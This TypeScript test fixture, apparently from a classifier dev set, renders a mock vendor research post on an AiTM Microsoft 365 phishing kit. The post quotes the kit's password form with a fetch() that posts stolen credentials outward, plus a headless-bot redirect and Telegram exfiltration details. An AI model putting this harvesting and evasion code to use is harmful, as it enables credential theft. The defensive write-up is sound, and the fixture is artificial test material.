import { htmlRoute, type Entry } from '../entry.js';
import { analytics, baseCss, cookieBanner, doc } from '../parts/v-kit.js';

// Security vendors' research posts that describe kits in detail (dev split).

const h1 = 'www.proofpoint.com';
const a1 = analytics(h1, 'G-PFPT-BLOG');
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const snippet1 = `<form id="f" autocomplete="off">
  <div class="id">' + em + '</div><div class="t">Enter password</div>
  <input type="password" name="pw" placeholder="Password">
</form>
fetch(b.post, {method:'POST', body: JSON.stringify({u:em, p:pw, ua:navigator.userAgent})})`;
const snippet2 = `if (navigator.webdriver || /HeadlessChrome|bot|crawl/i.test(navigator.userAgent)) {
  location.replace('https://www.wikipedia.org/');
}`;
const aitm: Entry = {
  id: 'v-clean-vendor-blog-aitm-kit',
  label: 'clean',
  kind: 'security-research',
  url: `https://${h1}/us/blog/threat-insight/inside-tycoon-style-aitm-kit-cloudflare-pages-and-telegram-exfil`,
  routes: {
    [`${h1}/us/blog/threat-insight/inside-tycoon-style-aitm-kit-cloudflare-pages-and-telegram-exfil`]: htmlRoute(
      doc({
        title: 'Inside a Tycoon-style AiTM Phishing Kit: Cloudflare Pages, Turnstile and Telegram Exfiltration | Proofpoint US',
        head: a1.tag,
        css: baseCss + `article{max-width:760px;margin:0 auto;padding:24px 32px;font-size:17px}pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:13px}table td,table th{font-size:13px}.tag{background:#eef;padding:2px 8px;border-radius:10px;font-size:12px;margin-right:6px}`,
        body: `<header class="site"><b>proofpoint.</b><nav><a href="#">Products</a><a href="#">Solutions</a><a href="#">Threat Insight</a><a href="#">Resources</a><a href="#">Contact</a><a href="#">Login</a></nav></header>
<article><p><span class="tag">Threat Insight</span><span class="tag">Credential Phishing</span><span class="tag">MFA Bypass</span></p>
<h1>Inside a Tycoon-style AiTM phishing kit: Cloudflare Pages, Turnstile and Telegram exfiltration</h1><p class="muted">March 03, 2026 · Proofpoint Threat Research Team</p>
<h2>Key findings</h2><ul><li>Since January we observed over 40,000 messages per week leading to an adversary-in-the-middle (AiTM) kit that impersonates the Microsoft 365 sign-in page.</li><li>Lures include DocuSign envelopes, voicemail notifications, HR handbook acknowledgements and remittance advice sent as HTML attachments.</li><li>Landing pages are hosted on legitimate platforms – pages.dev, workers.dev, web.app and Azure Blob Storage – and gated by a Cloudflare Turnstile challenge.</li></ul>
<h2>Attack chain</h2><p>A typical message contains a link to a URL shortener, which redirects through an open redirect on an ad-tracking domain to the kit. The kit first shows a fake "Verify you are human" page. Automated visitors are sent to a benign page:</p>
<pre>${esc(snippet2)}</pre>
<p>The victim's email address is passed base64-encoded in the URL fragment (for example <code>#am9obi5zbWl0aEBjb250b3NvLmNvbQ==</code>) so it never reaches server logs. The kit then fetches the victim organisation's tenant branding – logo and background image – to make the page look like their company's own sign-in page. The password form is built by script:</p>
<pre>${esc(snippet1)}</pre>
<p>Credentials and the session cookie obtained through the reverse proxy are sent to an attacker-controlled Telegram bot via <code>api.telegram[.]org/bot&lt;token&gt;/sendMessage</code>. The first password attempt is always rejected with "Your account or password is incorrect" to capture a second, confirmed password.</p>
<h2>Indicators of compromise</h2><table><tr><th>Indicator</th><th>Type</th><th>Description</th></tr><tr><td>docs-viewer-4f2a1[.]web[.]app</td><td>Domain</td><td>Landing page</td></tr><tr><td>shared-drive-access[.]pages[.]dev</td><td>Domain</td><td>Google Drive lure</td></tr><tr><td>rcv-n0de-22[.]glitch[.]me</td><td>Domain</td><td>Exfiltration endpoint</td></tr><tr><td>hxxps://lnk.ink-go[.]co/Xa91pQ</td><td>URL</td><td>Shortener hop</td></tr></table>
<h2>Recommendations</h2><p>Use phishing-resistant MFA (FIDO2 security keys or passkeys), enforce conditional access with compliant-device requirements, and train users to report unexpected sign-in prompts. Proofpoint customers are protected by URL Defense and Email Protection.</p>
<h3>Subscribe to the Proofpoint Blog</h3><form action="/us/blog/subscribe" method="post"><label>Business email</label><input type="email" name="email"><button class="btn">Subscribe</button></form></article>
<footer class="site">© 2026 Proofpoint. All rights reserved. <a href="#">Privacy Policy</a><a href="#">Terms of Use</a><a href="#">Cookie Settings</a></footer>
${cookieBanner()}`,
      }),
    ),
    ...a1.routes,
  },
};

export const entries: Entry[] = [aitm];
